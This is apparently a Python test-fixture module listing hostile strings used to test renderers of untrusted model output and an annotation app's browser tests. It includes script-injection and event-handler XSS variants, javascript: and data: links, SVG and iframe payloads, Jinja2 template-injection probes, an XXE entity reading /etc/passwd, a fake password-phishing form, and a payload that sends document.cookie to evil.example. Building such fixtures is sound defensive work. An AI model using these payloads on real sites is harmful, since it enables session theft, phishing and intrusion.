"""Hostile texts for the renderers of untrusted model output (``prefkit.serve.render``) and for
the annotation app's browser tests: script injection in many spellings, event handlers, unsafe
URL schemes in every Markdown link syntax, SVG/iframe/object/meta/form/style payloads,
template-injection strings, the CVE-2025-25296 pattern (a Label Studio ``label_config`` rendered
as HTML), broken markup, control characters and pathological nesting.

``HOSTILE_TEXTS`` is a plain list of strings; import it, never edit it in place.
"""

from __future__ import annotations

_JS = "alert(document.domain)"

HOSTILE_TEXTS: list[str] = [
    # -- script tags, many spellings -------------------------------------------------------
    f"<script>{_JS}</script>",
    f"<SCRIPT>{_JS}</SCRIPT>",
    f"<ScRiPt >{_JS}</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    f"<script/x>{_JS}</script>",
    f"<<script>{_JS}//<</script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    f"\\x3cscript\\x3e{_JS}\\x3c/script\\x3e",
    f"%3Cscript%3E{_JS}%3C/script%3E",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e",
    f"<script\x00>{_JS}</script>",
    f"```html\n<script>{_JS}</script>\n```",
    f"`<script>{_JS}</script>`",
    f"    <script>{_JS}</script>",  # indented code block
    f"</p></code></pre><script>{_JS}</script>",
    f"</textarea></title></style></noscript><script>{_JS}</script>",
    # -- event handlers ------------------------------------------------------------------
    f"<img src=x onerror={_JS}>",
    f'<IMG SRC="x" ONERROR="{_JS}">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f"<svg onload={_JS}>",
    f"<svg/onload={_JS}>",
    f"<body onload={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<video src=x onloadstart={_JS}>",
    f"<audio src=x onerror={_JS}>",
    f'<div onmouseover="{_JS}">hover me</div>',
    f'<a href="https://ok.example" onclick="{_JS}">ok</a>',
    f'<input autofocus onfocus="{_JS}">',
    f"<marquee onstart={_JS}>x</marquee>",
    # -- javascript: and friends in Markdown links -----------------------------------------
    f"[click](javascript:{_JS})",
    f"[click](JaVaScRiPt:{_JS})",
    f"[click](&#106;avascript:{_JS})",
    f"[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:{_JS})",
    f"[click](javascript&colon;{_JS})",
    f"[click](   javascript:{_JS}   )",
    f"[click](<javascript:{_JS}>)",
    f"[click](<java\tscript:{_JS}>)",
    f"[click](java%0ascript:{_JS})",
    f"[click](\x01javascript:{_JS})",
    f'[click](javascript:{_JS} "title")',
    f"<javascript:{_JS}>",
    f"<JAVASCRIPT:{_JS}>",
    f"[click][evil]\n\n[evil]: javascript:{_JS}",
    f"[evil]\n\n[evil]: <javascript:{_JS}>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<data:text/html,<script>alert(1)</script>>",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/steal)",
    "[click](/api/admin/delete-everything)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
    f"![x](javascript:{_JS})",
    "![tracker](https://evil.example/pixel.gif?who=annotator)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[a](https://ok.example\"onmouseover=\"alert(1))",
    "[a](https://ok.example 'x\" onmouseover=\"alert(1)')",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "```<script>alert(1)</script>\nx\n```",
    # -- raw links in HTML --------------------------------------------------------------
    f'<a href="javascript:{_JS}">x</a>',
    f'<a href=" &#14;  javascript:{_JS}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    # -- SVG payloads -------------------------------------------------------------------
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "</foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # -- frames, objects, base, meta, forms, styles -------------------------------------
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example/phish"><input name=password type=password>'
    "<button>Log in again</button></form>",
    "<style>body{background:url(https://evil.example/track)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<span style="background-image:url(&quot;https://evil.example/t&quot;)">x</span>',
    # -- template injection (the page is Jinja2-rendered; the text must stay text) -------------
    "{{7*7}}",
    "{{ config.items() }}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    # -- CVE-2025-25296: label config HTML rendered unsanitized -----------------------------
    '<View><Text name="text" value="$text"/><Choices name="c" toName="text">'
    '<Choice value="<img src=x onerror=alert(document.cookie)>"/></Choices></View>',
    "<View><Header value=\"</script><script>alert(document.domain)</script>\"/></View>",
    '<View><HyperText name="h" value="$html"/></View><img src=x onerror="fetch(\'https://'
    "evil.example/?c='+document.cookie)\">",
    # -- broken markup, control characters ---------------------------------------------
    "<div><p><b><i><script>alert(1)",
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
    "a\x00b<scr\x00ipt>alert(1)</script>\x00",
    "lone surrogate \ud800 and \udfff <script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202d",
    "\x0b\x0c\x1b[31m<b>ansi</b>\x1b[0m",
    # -- very long / deeply nested Markdown --------------------------------------------
    ">" * 10_000 + " deep quote <script>alert(1)</script>",
    "- " * 10_000 + "deep list <img src=x onerror=alert(1)>",
    "1. " * 5_000 + "deep ordered list",
    "> - " * 5_000 + "mixed nesting",
    "".join(f"{'  ' * i}- level {i}\n" for i in range(200)),
    "[" * 10_000 + "x" + "](javascript:alert(1))" * 100,
    "*a" * 10_000,
    "<" * 10_000 + "script>alert(1)",
    "x" * 200_000 + "<script>alert(1)</script>",
]
